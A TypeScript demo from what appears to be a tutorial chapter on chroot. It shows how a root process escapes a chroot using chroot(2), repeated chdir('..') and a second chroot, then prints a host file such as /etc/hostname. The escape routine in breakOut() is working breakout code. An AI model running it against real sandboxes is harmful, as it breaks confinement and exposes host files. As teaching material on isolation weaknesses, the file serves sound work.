// Demo: why chroot is not a jail. A process that is root inside a chroot
// climbs out of it with nothing but chroot(2), chdir(2) and "..".
//
//   sudo npx tsx chapters/01-chroot/escape.ts /tmp/rootfs /etc/hostname
import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { checkRootfs, enterRoot } from './chroot.ts';
import { exitWithError } from './fail.ts';
import { syscall } from './kernel.ts';

const chroot = syscall<[string]>('int chroot(const char *path)');
const chdir = syscall<[string]>('int chdir(const char *path)');

// #region escape
/**
 * chroot(2) moves the root but not the working directory, and the kernel
 * stops ".." only at the current root. Chroot into a subdirectory while
 * standing outside it, and the way up is no longer blocked: climb until
 * ".." is "." (the real /), and make that the root again.
 */
export function breakOut(): void {
  mkdirSync('/.escape', { recursive: true });
  chroot('/.escape'); // the root moves down; our cwd stays above it
  for (let i = 0; i < 64; i++) chdir('..');
  chroot('.'); // we are at the host's real /
}
// #endregion

function main([rootfs, hostFile = '/etc/hostname']: string[]): void {
  if (!rootfs) throw new Error('usage: escape.ts <rootfs> [host-file]');
  checkRootfs(resolve(rootfs));
  enterRoot(resolve(rootfs));
  console.log(`inside the chroot, / holds: ${readdirSync('/').join(' ')}`);
  breakOut();
  console.log(`escaped; / holds: ${readdirSync('/').join(' ')}`);
  console.log(`${hostFile} on the host reads:`);
  process.stdout.write(readFileSync(hostFile, 'utf8'));
}

try {
  main(process.argv.slice(2));
} catch (err) {
  exitWithError(err);
}
